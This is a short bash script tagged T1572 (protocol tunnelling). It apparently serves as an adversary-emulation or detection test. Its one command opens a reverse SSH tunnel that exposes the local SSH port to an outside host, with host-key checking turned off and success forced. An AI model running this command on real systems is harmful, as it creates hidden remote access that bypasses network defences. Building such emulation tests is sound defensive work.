#!/bin/bash
# T1572: A port of this host is made to lead outside.
timeout 3 ssh -f -N -R 2222:localhost:22 -o StrictHostKeyChecking=no -o BatchMode=yes user@44.128.66.66
true
